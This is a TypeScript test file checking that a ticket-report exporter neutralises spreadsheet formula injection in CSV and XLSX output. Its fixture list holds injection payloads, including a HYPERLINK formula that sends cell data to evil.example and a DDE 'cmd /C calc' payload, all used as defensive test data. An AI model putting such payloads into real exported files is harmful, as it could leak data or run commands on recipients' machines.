import { PassThrough, Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import ExcelJS from 'exceljs';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  csvSafeCell,
  reportEncoder,
  reportRow,
  type ReportRow,
} from '../../src/cli/report-command.js';
import { writeXlsxReport } from '../../src/cli/report-xlsx.js';
import type { ListedTicket } from '../../src/adapters/redis/ticket-store.js';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"open")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+1+2',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '＝HYPERLINK("https://evil.example")',
  '＋1',
  '－1',
  '＠SUM(1)',
];

function ticket(overrides: Partial<ListedTicket>): ListedTicket {
  return {
    ticketId: 't-1',
    biz: 'RPMin',
    flow: 'server',
    state: 'passed',
    version: 3,
    attempts: 0,
    createdAt: Date.UTC(2025, 2, 1),
    updatedAt: Date.UTC(2025, 2, 1),
    finishedAt: Date.UTC(2025, 2, 1, 0, 1),
    verdict: { statusCode: 1, similarityScore: 97.5, trustedScore: 99 },
    ...overrides,
  } as ListedTicket;
}

async function csvOf(rows: ReportRow[]): Promise<Record<string, string>[]> {
  const out = await text(Readable.from(rows).pipe(reportEncoder('csv')));
  return parse<Record<string, string>>(out, { columns: true });
}

describe('report cells that a spreadsheet would read as a formula', () => {
  it('prefixes every text cell starting with = + - @ tab CR (and their full-width forms) with a quote', () => {
    for (const f of FORMULAS) expect(csvSafeCell(f)).toBe(`'${f}`);
    for (const plain of ['t-1', 'order 1391012388', '', "'=already", ' =1', 'a=b', '李三']) {
      expect(csvSafeCell(plain)).toBe(plain);
    }
  });

  it('writes formula TicketIds, audit conclusions and error messages as quoted text, numbers as numbers', async () => {
    const rows = FORMULAS.map((f, i) =>
      reportRow(
        ticket({
          ticketId: f.replace(/[^\x21-\x7e]/g, '') || `t-${i}`,
          verdict: { statusCode: 2, similarityScore: 12.5, auditConclusions: f },
          lastError: { code: 'X', message: f, retryable: false, at: 0 },
        }),
      ),
    );
    const read = await csvOf(rows);
    expect(read).toHaveLength(FORMULAS.length);
    for (const [i, row] of read.entries()) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      expect(row.auditConclusions).toBe(`'${FORMULAS[i]}`);
      expect(row.errorMessage).toBe(`'${FORMULAS[i]}`);
      expect(row.similarityScore).toBe('12.5');
      expect(row.statusCode).toBe('2');
    }
    expect(read[0]?.TicketId).toBe(`'${FORMULAS[0]}`);
    expect(read[3]?.TicketId).toBe("'-2+3");
  });

  it("quotes the financial family's text cells too: SubCode, CertifyId", async () => {
    // the provider's strings, as a compromised or hostile endpoint could send them
    const rows = FORMULAS.map((f, i) =>
      reportRow(
        ticket({
          ticketId: `fin-${i}`,
          family: 'financial',
          verdict: { statusCode: 2, subCode: f, certifyId: f },
        }),
      ),
    );
    const read = await csvOf(rows);
    expect(read).toHaveLength(FORMULAS.length);
    for (const [i, row] of read.entries()) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      expect(row.subCode).toBe(`'${FORMULAS[i]}`);
      expect(row.certifyId).toBe(`'${FORMULAS[i]}`);
      expect(row.family).toBe('financial');
      // a TicketId that is no OuterOrderNo (here with a '-') is hashed to one: hex digits only
      expect(row.outerOrderNo).toMatch(/^[0-9a-f]{32}$/);
    }
  });

  it('leaves the JSONL report as the values are', async () => {
    const row = reportRow(ticket({ ticketId: '=1+1' }));
    const out = await text(Readable.from([row]).pipe(reportEncoder('jsonl')));
    expect(JSON.parse(out)).toMatchObject({ TicketId: '=1+1' });
  });

  it('protects the text cells of an .xlsx report the same way, numbers as numbers, IDs as text', async () => {
    const rows = FORMULAS.map((f, i) =>
      reportRow(
        ticket({
          ticketId: i === 0 ? '123456789012345678' : f.replace(/[^\x21-\x7e]/g, '') || `t-${i}`,
          verdict: { statusCode: 2, similarityScore: 12.5, auditConclusions: f },
          lastError: { code: 'X', message: f, retryable: false, at: 0 },
        }),
      ),
    );
    const out = new PassThrough();
    const [bytes] = await Promise.all([buffer(out), writeXlsxReport(Readable.from(rows), out)]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('Report');
    if (sheet === undefined) throw new Error('no sheet');
    expect(sheet.rowCount).toBe(FORMULAS.length + 1);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = (name: string) => header.indexOf(name) + 1;
    for (let r = 2; r <= sheet.rowCount; r++) {
      const row = sheet.getRow(r);
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
        expect(cell.formula).toBeUndefined();
      });
      // XML reads a carriage return in text as a line feed
      const expected = `'${FORMULAS[r - 2]}`.replace(/\r/g, '\n');
      expect(row.getCell(column('auditConclusions')).value).toBe(expected);
      expect(row.getCell(column('similarityScore')).value).toBe(12.5);
      expect(row.getCell(column('statusCode')).value).toBe(2);
      expect(row.getCell(column('emulated')).value).toBe(false);
    }
    // an all-digit TicketId stays text, in a column formatted as Text
    expect(sheet.getRow(2).getCell(column('TicketId')).value).toBe('123456789012345678');
    expect(sheet.getRow(2).getCell(column('TicketId')).numFmt).toBe('@');
    // so is every column but the numbers' and the boolean's
    const values = [
      'statusCode',
      'similarityScore',
      'trustedScore',
      'authorityComparisonScore',
      'emulated',
    ];
    const formats = (header as string[]).map((name) => [
      name,
      sheet.getRow(2).getCell(column(name)).numFmt,
    ]);
    expect(formats).toEqual(
      (header as string[]).map((name) => [name, values.includes(name) ? undefined : '@']),
    );
    expect(sheet.getRow(4).getCell(column('TicketId')).value).toBe("'+1+2");
  });
});
